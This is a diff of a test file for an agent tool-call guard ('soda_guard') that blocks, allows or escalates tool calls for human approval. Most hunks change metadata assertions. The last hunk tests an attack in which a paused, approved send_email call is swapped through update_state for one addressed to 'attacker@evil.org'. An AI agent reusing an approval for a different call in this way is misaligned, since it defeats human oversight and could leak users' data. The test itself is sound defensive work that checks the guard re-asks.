@@ -143,7 +143,7 @@ async def test_a_decision_in_one_thread_is_not_used_in_another() -> None:
     bob = wrapper_graph(wrapper, [turn(DELETE, ids=["call_0"]), "done"], ran).invoke(USER, config("bob"))
     assert ran == [READ]
     refused = [m for m in bob["messages"] if isinstance(m, ToolMessage)]
-    assert refused[0].status == "error" and refused[0].response_metadata["soda_guard"]["decision"]["action"] == "block"
+    assert refused[0].status == "error" and refused[0].response_metadata["soda_guard"]["action"] == "block"
 
 
 class Rewriter(AgentMiddleware):
@@ -164,7 +164,7 @@ async def test_arguments_rewritten_after_judging_are_judged_again_middleware(mod
     result = agent.invoke(USER, config()) if mode == "sync" else await agent.ainvoke(USER, config())
     assert ran == []
     [message] = [m for m in result["messages"] if isinstance(m, ToolMessage)]
-    assert message.status == "error" and message.response_metadata["soda_guard"]["decision"]["action"] == "block"
+    assert message.status == "error" and message.response_metadata["soda_guard"]["action"] == "block"
     assert len(backend.requests) == 2
 
 
@@ -297,7 +297,7 @@ def test_the_graph_state_holds_only_the_latest_turn() -> None:
     result = agent.invoke(USER, config())
     assert [record["call"]["id"] for record in result["soda_guard"]["records"]] == ["x1"]
     first_turn = next(m for m in result["messages"] if isinstance(m, ToolMessage) and m.tool_call_id == "x0")
-    assert first_turn.response_metadata["soda_guard"]["decision"]["action"] == "allow"
+    assert first_turn.response_metadata["soda_guard"]["action"] == "allow"
 
 
 def test_tool_calls_message_mints_unique_ids() -> None:
@@ -308,19 +308,16 @@ def test_tool_calls_message_mints_unique_ids() -> None:
 
 @pytest.mark.parametrize("path", ["middleware", "guard_node"])
 def test_an_answer_given_to_other_calls_is_not_used_after_the_state_changed(path: str) -> None:
-    """Paused on one transfer; while paused, the model's turn is swapped (same message id,
-    same call id, other arguments) through `update_state`. The approval was for the first
-    transfer: the swapped call is asked about again, not run on it."""
+    """Paused on one email; while paused, someone with access to the checkpoint writes another
+    model turn (same call id, other arguments) through `update_state`, as the model step. The
+    approval was for the first email: the new call is asked about again, not run on it."""
     guard, _ = make_guard(unsafe=("send_email",), defaults={"on_unsafe": "escalate"})
     ran: list[Any] = []
     first = turn(("send_email", {"to": "ok@x.org"}), ids=["same"])
     graph = middleware_agent(guard, [first, "done"], ran) if path == "middleware" else node_graph(guard, [first, "done"], ran)
     assert graph.invoke(USER, config())["__interrupt__"]
-    swapped = AIMessage(id=first.id, content="", tool_calls=[
-        {"name": "send_email", "args": {"to": "attacker@evil.org"}, "id": "same", "type": "tool_call"}])
-    stored = graph.get_state(config()).values["messages"]
-    swapped.id = next(m.id for m in stored if isinstance(m, AIMessage))
-    graph.update_state(config(), {"messages": [swapped]})
+    swapped = turn(("send_email", {"to": "attacker@evil.org"}), ids=["same"])
+    graph.update_state(config(), {"messages": [swapped]}, as_node="model" if path == "middleware" else "agent")
     again = graph.invoke(Command(resume={"type": "approve"}), config())
     assert ran == []
     [pause] = again["__interrupt__"]
